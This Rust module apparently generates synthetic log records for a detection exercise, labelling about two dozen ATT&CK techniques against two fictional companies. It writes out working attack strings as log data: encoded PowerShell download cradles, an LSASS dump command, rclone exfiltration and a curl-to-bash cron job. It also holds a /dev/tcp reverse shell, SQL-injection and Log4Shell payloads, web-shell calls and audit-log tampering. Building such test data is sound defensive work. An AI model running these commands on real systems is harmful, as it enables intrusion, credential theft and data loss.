//! The attacks of the day: who they hit, what they leave in which log, and what would count as finding them.
//!
//! Each leaves the records that the real thing leaves, in the words real tools use; addresses come from the
//! documentation ranges. Records carry no mark: the list in [`Attack::records`] is the only label.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::clock::{self, Clock, SECOND};
use super::cloud::{self, Call, Caller};
use super::files::Planned;
use super::linux::{self, Exec};
use super::network::{self, Connection, Request};
use super::random::Random;
use super::web;
use super::windows::{self, Logged, Start};
use super::world::{Host, Tenant};

/// An attack of the scenario.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Attack {
    /// Short name, the same in every run.
    pub id: String,
    /// Title.
    pub name: String,
    /// What happens, in a sentence or two.
    pub description: String,
    /// Whom it hits.
    pub tenant: String,
    /// ATT&CK technique ids. An alert with one of them on one of the records counts.
    pub techniques: Vec<String>,
    /// Ids of rules that count whatever their techniques.
    pub rules: Vec<String>,
    /// Its records.
    pub records: Vec<Record>,
}

/// A log record of an attack.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Record {
    /// File below the folder of the logs (`acme/windows/sysmon.ndjson`).
    pub file: String,
    /// Event time as precise as the log writes it, RFC 3339.
    pub time: String,
    /// The host that the record names, if it names one.
    pub host: Option<String>,
}

/// Attacks and their lines by file.
#[derive(Debug, Default)]
pub(super) struct Plan {
    pub attacks: Vec<Attack>,
    pub lines: BTreeMap<String, Vec<Planned>>,
}

impl Plan {
    fn begin(
        &mut self,
        tenant: &str,
        id: &str,
        name: &str,
        description: &str,
        techniques: &[&str],
        rules: &[&str],
    ) {
        let texts = |list: &[&str]| list.iter().map(|text| (*text).to_owned()).collect();
        self.attacks.push(Attack {
            id: id.to_owned(),
            name: name.to_owned(),
            description: description.to_owned(),
            tenant: tenant.to_owned(),
            techniques: texts(techniques),
            rules: texts(rules),
            records: Vec::new(),
        });
    }

    /// Adds a record to the attack begun last.
    fn add(&mut self, file: &str, time: i64, host: Option<&Host>, text: String) {
        // Syslog, access logs and CloudTrail know seconds, the audit daemon and Windows' shippers milliseconds.
        let unit = if file.ends_with("auth.log") || file.contains("access.log") || file.contains("/aws/") {
            SECOND
        } else if file.contains("sysmon") || file.contains("security") || file.ends_with("audit.log") {
            1000
        } else {
            1
        };
        let attack = self.attacks.last_mut().expect("an attack has begun");
        attack.records.push(Record {
            file: file.to_owned(),
            time: clock::rfc3339(time - time.rem_euclid(unit)),
            host: host.map(|host| {
                if file.ends_with("auth.log") {
                    host.name.clone()
                } else {
                    host.fqdn.clone()
                }
            }),
        });
        self.lines
            .entry(file.to_owned())
            .or_default()
            .push(Planned { time, text });
    }
}

const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
const SYSTEM: &str = "NT AUTHORITY\\SYSTEM";

/// Files of the two tenants that attacks leave records in.
pub(super) mod file {
    pub const ACME_SYSMON: &str = "acme/windows/sysmon.ndjson";
    pub const ACME_SECURITY: &str = "acme/windows/security.ndjson.gz";
    pub const ACME_POWERSHELL: &str = "acme/windows/powershell.json";
    pub const ACME_CONN: &str = "acme/zeek/conn.log";
    pub const ACME_DNS: &str = "acme/zeek/dns.log.gz";
    pub const ACME_AUTH: &str = "acme/linux/auth.log";
    pub const GLOBEX_SYSMON: &str = "globex/windows/sysmon.ndjson.gz";
    pub const GLOBEX_AUTH: &str = "globex/linux/auth.log";
    pub const GLOBEX_AUDIT: &str = "globex/linux/audit.log";
    pub const GLOBEX_ACCESS: &str = "globex/web/access.log.gz";
    pub const GLOBEX_HTTP: &str = "globex/zeek/http.log";
}

/// CloudTrail delivers many small files; here four, of six hours each. The one that a time falls into.
pub(super) fn cloudtrail_file(clock: Clock, quarter: i64) -> String {
    let stamp = clock::format(clock.at(quarter * 6, 0, 0, 0), "%Y%m%dT%H%MZ");
    format!("globex/aws/111122223333_CloudTrail_eu-central-1_{stamp}.json.gz")
}

/// Base64 of UTF-16, as `-EncodedCommand` takes it.
fn encoded(script: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let word = chunk
            .iter()
            .fold(0_u32, |word, &byte| word << 8 | u32::from(byte))
            << (8 * (3 - chunk.len()));
        for place in 0..4 {
            if place <= chunk.len() {
                out.push(char::from(ALPHABET[(word >> (18 - 6 * place)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// A program that came with Windows.
fn start<'a>(
    image: &'a str,
    original: &'a str,
    command: &'a str,
    parent: (&'a str, &'a str),
    user: &'a str,
) -> Start<'a> {
    Start {
        image,
        command,
        parent: parent.0,
        parent_command: parent.1,
        original,
        description: original,
        company: "Microsoft Corporation",
        user,
    }
}

/// All attacks of the day.
pub(super) fn plan(clock: Clock, random: &mut Random, acme: &Tenant, globex: &Tenant) -> Plan {
    let mut plan = Plan::default();
    acme_windows(&mut plan, clock, random, acme);
    acme_domain(&mut plan, clock, random, acme);
    acme_network(&mut plan, clock, random, acme);
    globex_hosts(&mut plan, clock, random, globex);
    globex_web(&mut plan, clock);
    globex_cloud(&mut plan, clock, random);
    plan
}

fn acme_windows(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let victim = acme.host("WS-017");
    let person = format!("ACME\\{}", acme.users[victim.owner].name);
    let sid = acme.users[victim.owner].sid.clone();
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let word_command = "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\Public\\Downloads\\Offer 4471.docm\"";

    plan.begin(
        "acme",
        "encoded-powershell",
        "Word document starts encoded PowerShell",
        "A mailed document runs PowerShell, which loads its next stage into memory.",
        &["T1059.001", "T1204.002", "T1566.001"],
        &[],
    );
    let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
    let command = format!("powershell.exe -nop -w hidden -enc {}", encoded(script));
    let time = clock.at(9, 14, 31, 562_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            POWERSHELL,
            "PowerShell.EXE",
            &command,
            (word, word_command),
            &person,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let time = clock.at(9, 14, 32, 104_331);
    let text = windows::powershell_event(random, time, victim, &sid, 4104, script);
    plan.add(file::ACME_POWERSHELL, time, Some(victim), text);

    plan.begin(
        "acme",
        "scheduled-task",
        "Scheduled task runs a hidden loader",
        "The intruder comes back after every reboot by a task that looks like OneDrive.",
        &["T1053.005"],
        &[],
    );
    let task = format!(
        "schtasks /create /tn \"OneDrive Sync\" /sc hourly /tr \"powershell -w hidden -enc {}\" /f",
        encoded("IEX $env:od")
    );
    let time = clock.at(9, 21, 7, 118_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            "C:\\Windows\\System32\\schtasks.exe",
            "schtasks.exe",
            &task,
            (POWERSHELL, &command),
            &person,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Actions Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -enc {}</Arguments></Exec></Actions>\r\n</Task>",
        encoded("IEX $env:od")
    );
    let data = [
        ("SubjectUserSid", sid.as_str()),
        ("SubjectUserName", &acme.users[victim.owner].name),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x4a1f2c"),
        ("TaskName", "\\OneDrive Sync"),
        ("TaskContent", &content),
    ];
    let time = clock.at(9, 21, 7, 402_000);
    let text = windows::winlogbeat(
        random,
        time,
        victim,
        &Logged::security(
            4698,
            "Other Object Access Events",
            "A scheduled task was created.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(victim), text);

    plan.begin(
        "acme",
        "defender-off",
        "Defender switched off by policy value",
        "Real-time protection is turned off in the registry before tools are brought in.",
        &["T1685", "T1562.001", "T1112"],
        &[],
    );
    let time = clock.at(10, 2, 44, 871_000);
    let text = windows::sysmon_event(
        random,
        time,
        victim,
        13,
        "C:\\Windows\\System32\\reg.exe",
        SYSTEM,
        &[
            ("EventType", "SetValue"),
            (
                "TargetObject",
                "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
            ),
            ("Details", "DWORD (0x00000001)"),
        ],
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);

    plan.begin(
        "acme",
        "lsass-dump",
        "Memory of LSASS dumped with comsvcs.dll",
        "Passwords are read from the memory of the logon process, with nothing but Windows' own tools.",
        &["T1003.001"],
        &[],
    );
    let rundll = "C:\\Windows\\System32\\rundll32.exe";
    let time = clock.at(10, 5, 12, 30_000);
    let text = windows::sysmon_start(
        random,
        time,
        victim,
        &start(
            rundll,
            "RUNDLL32.EXE",
            "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 668 C:\\Windows\\Temp\\lsa.dmp full",
            (CMD, "cmd.exe"),
            SYSTEM,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);
    let time = clock.at(10, 5, 12, 377_000);
    let trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6ed1|C:\\Windows\\System32\\comsvcs.dll+2a31";
    let text = windows::sysmon_event(
        random,
        time,
        victim,
        10,
        rundll,
        SYSTEM,
        &[
            ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
            ("GrantedAccess", "0x1fffff"),
            ("CallTrace", trace),
            ("TargetUser", SYSTEM),
        ],
    );
    plan.add(file::ACME_SYSMON, time, Some(victim), text);

    let files = acme.host("SRV-FILE01");
    plan.begin(
        "acme",
        "rclone-exfiltration",
        "Finance share copied out with rclone",
        "A renamed folder of tools holds rclone, which copies a share to a cloud storage.",
        &["T1567.002", "T1048"],
        &[],
    );
    let time = clock.at(21, 40, 3, 219_000);
    let rclone = Start {
        description: "Rclone",
        company: "https://rclone.org",
        ..start(
            "C:\\ProgramData\\intel\\rclone.exe",
            "rclone.exe",
            "rclone.exe copy D:\\Shares\\Finance mega:q4 -q --ignore-existing --transfers 16",
            (CMD, "cmd.exe"),
            SYSTEM,
        )
    };
    let text = windows::sysmon_start(random, time, files, &rclone);
    plan.add(file::ACME_SYSMON, time, Some(files), text);
    let time = clock.at(21, 40, 5, 610_442);
    let text = network::conn_line(
        random,
        time,
        &Connection {
            from: &files.ip,
            to: "203.0.113.200",
            port: 443,
            proto: "tcp",
            service: "ssl",
            millis: 2_812_000,
            sent: 48_311_204_117,
            received: 91_223_004,
            state: "SF",
        },
    );
    plan.add(file::ACME_CONN, time, None, text);

    plan.begin(
        "acme",
        "shadow-copies",
        "Shadow copies deleted",
        "The last step before encryption: nothing to restore from.",
        &["T1490"],
        &[],
    );
    let time = clock.at(23, 11, 48, 905_000);
    let text = windows::sysmon_start(
        random,
        time,
        files,
        &start(
            "C:\\Windows\\System32\\vssadmin.exe",
            "VSSADMIN.EXE",
            "vssadmin.exe Delete Shadows /All /Quiet",
            (CMD, "cmd.exe /c C:\\ProgramData\\intel\\p.bat"),
            SYSTEM,
        ),
    );
    plan.add(file::ACME_SYSMON, time, Some(files), text);
}

fn acme_domain(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let (controller, application) = (acme.host("DC01"), acme.host("SRV-APP02"));
    let victim = acme.host("WS-017");
    let user = &acme.users[victim.owner];

    plan.begin(
        "acme",
        "rdp-from-internet",
        "Remote desktop logon from the internet",
        "A terminal server is reachable from outside; after guesses an administrator's password fits.",
        &["T1133", "T1021.001", "T1078"],
        &[],
    );
    let terminal = acme.host("SRV-RDS01");
    for guess in 0..12 {
        let time = clock.at(3, 20 + guess, 10 + guess * 3, 417_000);
        let data = [
            ("SubjectUserSid", "S-1-0-0"),
            ("SubjectUserName", "-"),
            ("TargetUserName", "administrator"),
            ("TargetDomainName", "ACME"),
            ("Status", "0xc000006d"),
            ("SubStatus", "0xc000006a"),
            ("LogonType", "3"),
            ("WorkstationName", "-"),
            ("IpAddress", "203.0.113.45"),
            ("IpPort", "0"),
        ];
        let event = Logged {
            failure: true,
            ..Logged::security(4625, "Logon", "An account failed to log on.", &data)
        };
        let text = windows::winlogbeat(random, time, terminal, &event);
        plan.add(file::ACME_SECURITY, time, Some(terminal), text);
    }
    let time = clock.at(3, 33, 9, 52_000);
    let data = [
        ("SubjectUserSid", "S-1-5-18"),
        ("SubjectUserName", "SRV-RDS01$"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3e7"),
        ("TargetUserSid", &user.sid),
        ("TargetUserName", "administrator"),
        ("TargetDomainName", "ACME"),
        ("TargetLogonId", "0x5f1c2a"),
        ("LogonType", "10"),
        ("LogonProcessName", "User32 "),
        ("AuthenticationPackageName", "Negotiate"),
        ("WorkstationName", "SRV-RDS01"),
        ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
        ("IpAddress", "203.0.113.45"),
        ("IpPort", "0"),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        terminal,
        &Logged::security(4624, "Logon", "An account was successfully logged on.", &data),
    );
    plan.add(file::ACME_SECURITY, time, Some(terminal), text);

    plan.begin(
        "acme",
        "kerberoasting",
        "Service tickets collected for cracking",
        "A script asks for tickets of service accounts in the old cipher, to guess their passwords at home.",
        &["T1558.003", "T1059.001", "T1087.002"],
        &[],
    );
    let time = clock.at(10, 31, 20, 771_203);
    let text = windows::powershell_event(
        random,
        time,
        victim,
        &user.sid,
        4104,
        "Import-Module .\\pv.ps1; Invoke-Kerberoast -OutputFormat Hashcat | Select-Object Hash | Out-File h.txt",
    );
    plan.add(file::ACME_POWERSHELL, time, Some(victim), text);
    let principal = format!("{}@CORP.EXAMPLE.COM", user.name);
    let address = format!("::ffff:{}", victim.ip);
    for (index, service) in ["svc_sql", "svc_backup", "svc_mes"].into_iter().enumerate() {
        let time = clock.at(10, 31, 21 + index as i64, 9_000);
        let data = [
            ("TargetUserName", principal.as_str()),
            ("TargetDomainName", "CORP.EXAMPLE.COM"),
            ("ServiceName", service),
            ("TicketOptions", "0x40810000"),
            ("TicketEncryptionType", "0x17"),
            ("IpAddress", &address),
            ("IpPort", "50712"),
            ("Status", "0x0"),
            ("TransmittedServices", "-"),
        ];
        let text = windows::winlogbeat(
            random,
            time,
            controller,
            &Logged::security(
                4769,
                "Kerberos Service Ticket Operations",
                "A Kerberos service ticket was requested.",
                &data,
            ),
        );
        plan.add(file::ACME_SECURITY, time, Some(controller), text);
    }

    plan.begin(
        "acme",
        "psexec-service",
        "Service installed over the network (PsExec)",
        "With the cracked password the intruder runs programs on a server through a service.",
        &["T1569.002", "T1021.002", "T1543.003", "T1570"],
        &[],
    );
    let time = clock.at(11, 48, 55, 300_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
        ("ObjectType", "File"),
        ("IpAddress", &victim.ip),
        ("IpPort", "50990"),
        ("ShareName", "\\\\*\\ADMIN$"),
        ("ShareLocalPath", "\\??\\C:\\Windows"),
        ("RelativeTargetName", "PSEXESVC.exe"),
        ("AccessMask", "0x12019f"),
        (
            "AccessList",
            "%%1538\r\n\t\t\t\t%%4416\r\n\t\t\t\t%%4417\r\n\t\t\t\t",
        ),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        application,
        &Logged::security(
            5145,
            "Detailed File Share",
            "A network share object was checked to see whether client can be granted desired access.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(application), text);
    let time = clock.at(11, 48, 56, 11_000);
    let data = [
        ("ServiceName", "PSEXESVC"),
        ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"),
        ("ServiceType", "user mode service"),
        ("StartType", "demand start"),
        ("AccountName", "LocalSystem"),
    ];
    let text = windows::winlogbeat(random, time, application, &Logged::service(&data));
    plan.add(file::ACME_SECURITY, time, Some(application), text);

    plan.begin(
        "acme",
        "dcsync",
        "Password hashes replicated from the domain controller",
        "A person's account asks the domain controller for replication, as only other controllers do.",
        &["T1003.006"],
        &[],
    );
    let time = clock.at(13, 2, 17, 187_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
        ("ObjectServer", "DS"),
        ("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
        ("ObjectName", "%{3933c65d-ac7f-4c79-b5b7-ad0fb941333c}"),
        ("OperationType", "Object Access"),
        ("HandleId", "0x0"),
        ("AccessList", "%%7688\r\n\t\t\t\t"),
        ("AccessMask", "0x100"),
        (
            "Properties",
            "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n",
        ),
    ];
    let text = windows::winlogbeat(
        random,
        time,
        controller,
        &Logged::security(
            4662,
            "Directory Service Access",
            "An operation was performed on an object.",
            &data,
        ),
    );
    plan.add(file::ACME_SECURITY, time, Some(controller), text);

    plan.begin(
        "acme",
        "log-cleared",
        "Security log cleared",
        "The intruder wipes the Security log of the server that was used as a stepping stone.",
        &["T1685.005", "T1070.001"],
        &[],
    );
    let time = clock.at(23, 31, 2, 640_000);
    let data = [
        ("SubjectUserSid", user.sid.as_str()),
        ("SubjectUserName", "svc_backup"),
        ("SubjectDomainName", "ACME"),
        ("SubjectLogonId", "0x3fd21a"),
    ];
    let event = Logged {
        provider: "Microsoft-Windows-Eventlog",
        ..Logged::security(1102, "Log clear", "The audit log was cleared.", &data)
    };
    let text = windows::winlogbeat(random, time, application, &event);
    plan.add(file::ACME_SECURITY, time, Some(application), text);
}

fn acme_network(plan: &mut Plan, clock: Clock, random: &mut Random, acme: &Tenant) {
    let victim = acme.host("WS-042");
    let resolver = acme.host("DC01");
    plan.begin(
        "acme",
        "dns-tunnel",
        "Data carried out in DNS names",
        "A workstation sends a file away in pieces, each piece the first label of a TXT query.",
        &["T1071.004", "T1048.003"],
        &[],
    );
    for piece in 0..40_i64 {
        let time = clock.at(14, 10 + piece / 10, (piece % 10) * 6, 100_000 + piece * 37);
        let query = format!("{}.{}.t1.example.net", random.hex(56), piece);
        let text = network::dns_line(
            random,
            time,
            &victim.ip,
            &resolver.ip,
            ("TXT", 16),
            &query,
            Some("TXT 32 a2b9c1d4e5f60718293a4b5c6d7e8f90"),
        );
        plan.add(file::ACME_DNS, time, None, text);
    }

    let jump = acme.host("lx-jump01");
    plan.begin(
        "acme",
        "ssh-guessing",
        "Root's password guessed over SSH",
        "Hundreds of guesses at the jump host, then one that fits.",
        &["T1110.001", "T1110", "T1078.003", "T1021.004"],
        &[],
    );
    for guess in 0..180_i64 {
        let time = clock.at(4, 2 + guess / 30, (guess % 30) * 2, 0);
        let text = linux::syslog(
            time,
            jump,
            "sshd",
            41_000 + guess as u64,
            &format!(
                "Failed password for root from 203.0.113.77 port {} ssh2",
                40_000 + guess
            ),
        );
        plan.add(file::ACME_AUTH, time, Some(jump), text);
    }
    let time = clock.at(4, 9, 14, 0);
    let text = linux::syslog(
        time,
        jump,
        "sshd",
        41_300,
        "Accepted password for root from 203.0.113.77 port 40188 ssh2",
    );
    plan.add(file::ACME_AUTH, time, Some(jump), text);
}

fn globex_hosts(plan: &mut Plan, clock: Clock, random: &mut Random, globex: &Tenant) {
    let victim = globex.host("GX-PC-004");
    plan.begin("globex", "screenconnect-shell", "Remote support tool runs a downloader", "Somebody was talked into a support session; its hidden shell fetches and runs a program, then adds an account.", &["T1219.002", "T1219", "T1059", "T1105"], &[]);
    let agent =
        "C:\\Program Files (x86)\\ScreenConnect Client (1f2e3d4c5b6a7988)\\ScreenConnect.ClientService.exe";
    let commands = [
        "\"cmd.exe\" /c curl http://198.51.100.23/upd.exe -o C:\\ProgramData\\upd.exe && C:\\ProgramData\\upd.exe",
        "\"cmd.exe\" /c net user helpdesk2 Winter2026! /add",
    ];
    for (index, command) in commands.into_iter().enumerate() {
        let time = clock.at(15, 22 + index as i64 * 3, 41, 218_000);
        let text = windows::sysmon_start(
            random,
            time,
            victim,
            &start(CMD, "Cmd.Exe", command, (agent, agent), SYSTEM),
        );
        plan.add(file::GLOBEX_SYSMON, time, Some(victim), text);
    }

    plan.begin(
        "globex",
        "program-from-address",
        "Program fetched from a bare address",
        "The downloader's payload crosses the network: an executable from an address without a name.",
        &["T1105"],
        &[],
    );
    let time = clock.at(15, 22, 43, 904_118);
    let text = network::http_line(
        random,
        time,
        &Request {
            from: &victim.ip,
            to: "198.51.100.23",
            host: "198.51.100.23",
            uri: "/upd.exe",
            agent: "curl/8.9.1",
            size: 412_672,
            mime: "application/x-dosexec",
        },
    );
    plan.add(file::GLOBEX_HTTP, time, None, text);

    let web02 = globex.host("web02");
    plan.begin(
        "globex",
        "cron-persistence",
        "Cron job fetches code every five minutes",
        "The intruder on the web server stays by a job that pipes a download into a shell.",
        &["T1053.003", "T1059.004"],
        &[],
    );
    for run in 0..6_i64 {
        let time = clock.at(18, 5 + run * 5, 1, 0);
        let text = linux::syslog(
            time,
            web02,
            "CRON",
            9_120 + run as u64,
            "(www-data) CMD (curl -fsSL http://198.51.100.23/x.sh | bash)",
        );
        plan.add(file::GLOBEX_AUTH, time, Some(web02), text);
    }

    plan.begin(
        "globex",
        "sudo-root-shell",
        "Web server's account becomes root",
        "A careless sudo rule lets the account of the web server start a shell as root.",
        &["T1548.003"],
        &[],
    );
    let time = clock.at(18, 1, 22, 0);
    let text = linux::syslog(
        time,
        web02,
        "sudo",
        0,
        "www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash",
    );
    plan.add(file::GLOBEX_AUTH, time, Some(web02), text);

    plan.begin(
        "globex",
        "linux-log-wipe",
        "Logs of a Linux server removed",
        "The intruder deletes the login records of the server.",
        &["T1685.006", "T1070.002"],
        &[],
    );
    let time = clock.at(19, 47, 9, 554_000);
    let exec = Exec {
        exe: "/usr/bin/rm",
        arguments: &["rm", "-f", "/var/log/auth.log", "/var/log/wtmp"],
        uid: 0,
        auid: u32::MAX,
        cwd: "/root",
    };
    let text = linux::audit_exec(random, time, serial(clock, time), &exec);
    plan.add(file::GLOBEX_AUDIT, time, None, text);

    plan.begin(
        "globex",
        "reverse-shell",
        "Shell connected back to an outside address",
        "The web server's account opens a shell to the attacker, and plants a key for later.",
        &["T1059.004", "T1071", "T1098.004"],
        &[],
    );
    let time = clock.at(17, 55, 30, 407_000);
    let exec = Exec {
        exe: "/usr/bin/bash",
        arguments: &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"],
        uid: 33,
        auid: u32::MAX,
        cwd: "/var/www/html",
    };
    let text = linux::audit_exec(random, time, serial(clock, time), &exec);
    plan.add(file::GLOBEX_AUDIT, time, None, text);
    let time = clock.at(17, 58, 2, 533_000);
    let text = linux::audit_write(
        random,
        time,
        serial(clock, time),
        "/usr/bin/dash",
        33,
        "/var/www/.ssh/authorized_keys",
        "ssh-keys",
    );
    plan.add(file::GLOBEX_AUDIT, time, None, text);
}

/// Serial number of an audit event: they grow with time.
pub(super) fn serial(clock: Clock, time: i64) -> u64 {
    ((time - clock.at(0, 0, 0, 0)) / 20_000) as u64 + 4_000
}

fn globex_web(plan: &mut Plan, clock: Clock) {
    let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
    plan.begin(
        "globex",
        "sql-injection",
        "SQL injection in the shop's product page",
        "A parameter is probed and then used to read the table of customers.",
        &["T1190"],
        &[],
    );
    let targets = [
        "/products/item.php?id=1%27%20or%201=1--",
        "/products/item.php?id=1%27%20UNION%20SELECT%201,user(),3--%20-",
        "/products/item.php?id=1%27%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--%20-",
        "/products/item.php?id=1%27%20UNION%20SELECT%20email,password,3%20FROM%20customers--%20-",
    ];
    for (index, target) in targets.into_iter().enumerate() {
        let time = clock.at(16, 12 + index as i64, 7, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "203.0.113.77",
                "GET",
                target,
                200,
                4_120 + 311 * index as u64,
                "-",
                agent,
            ),
        );
    }

    plan.begin(
        "globex",
        "log4shell",
        "Log4Shell lookups in request headers",
        "A visitor's browser name makes vulnerable Java programs load code from the attacker.",
        &["T1190"],
        &[],
    );
    for (index, target) in ["/", "/login", "/api/v1/session"].into_iter().enumerate() {
        let time = clock.at(7, 41, 3 + index as i64, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "192.0.2.66",
                "GET",
                target,
                200,
                9_211,
                "-",
                "${jndi:ldap://198.51.100.23:1389/a}",
            ),
        );
    }

    plan.begin(
        "globex",
        "web-shell",
        "Web shell in the upload folder",
        "A script uploaded as a picture runs commands for whoever calls it.",
        &["T1505.003", "T1059", "T1033"],
        &[],
    );
    let calls = [
        ("POST", "/wp-content/uploads/2026/11/cache.php"),
        ("GET", "/wp-content/uploads/2026/11/cache.php?cmd=whoami"),
        ("GET", "/wp-content/uploads/2026/11/cache.php?cmd=uname%20-a"),
        (
            "GET",
            "/wp-content/uploads/2026/11/cache.php?cmd=cat%20/etc/passwd",
        ),
    ];
    for (index, (method, target)) in calls.into_iter().enumerate() {
        let time = clock.at(17, 40 + index as i64, 12, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "203.0.113.77",
                method,
                target,
                200,
                58 + 17 * index as u64,
                "-",
                agent,
            ),
        );
    }
}

fn globex_cloud(plan: &mut Plan, clock: Clock, random: &mut Random) {
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
    let cli = "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux";
    let call = |action, source, request, response| Call {
        by: Caller::Person("dev-ci"),
        source,
        action,
        read_only: false,
        from: "203.0.113.99",
        agent: cli,
        request,
        response,
        second_factor: None,
    };

    plan.begin(
        "globex",
        "root-without-mfa",
        "Root logs on without a second factor",
        "The account's own password, found in an old note, opens the console.",
        &["T1078.004"],
        &[],
    );
    let file = cloudtrail_file(clock, 0);
    let time = clock.at(2, 11, 40, 0);
    let text = cloud::record(
        random,
        time,
        &Call {
            by: Caller::Root,
            agent: browser,
            second_factor: Some(false),
            ..call(
                "ConsoleLogin",
                "signin.amazonaws.com",
                "null",
                "{\"ConsoleLogin\":\"Success\"}",
            )
        },
    );
    plan.add(&file, time, None, text);

    plan.begin(
        "globex",
        "cloudtrail-stopped",
        "CloudTrail switched off",
        "A stolen key of the build server stops the account's audit log.",
        &["T1685.002", "T1562.008"],
        &[],
    );
    let file = cloudtrail_file(clock, 3);
    let time = clock.at(20, 14, 9, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "StopLogging",
            "cloudtrail.amazonaws.com",
            "{\"name\":\"arn:aws:cloudtrail:eu-central-1:111122223333:trail/main\"}",
            "null",
        ),
    );
    plan.add(&file, time, None, text);

    plan.begin(
        "globex",
        "cloud-back-door",
        "Access key and rights for a dormant user",
        "The same key gives an old account new keys and full rights, to come back with.",
        &["T1098.001", "T1098.003"],
        &[],
    );
    let time = clock.at(20, 17, 31, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "CreateAccessKey",
            "iam.amazonaws.com",
            "{\"userName\":\"breakglass\"}",
            "{\"accessKey\":{\"userName\":\"breakglass\",\"status\":\"Active\",\"accessKeyId\":\"AKIAI44QH8DHBEXAMPLE\"}}",
        ),
    );
    plan.add(&file, time, None, text);
    let time = clock.at(20, 18, 2, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "AttachUserPolicy",
            "iam.amazonaws.com",
            "{\"userName\":\"breakglass\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}",
            "null",
        ),
    );
    plan.add(&file, time, None, text);
}

#[cfg(test)]
mod tests {
    #[test]
    fn encodes_as_powershell_does() {
        assert_eq!(super::encoded("dir"), "ZABpAHIA");
        assert_eq!(super::encoded("ls"), "bABzAA==");
    }
}
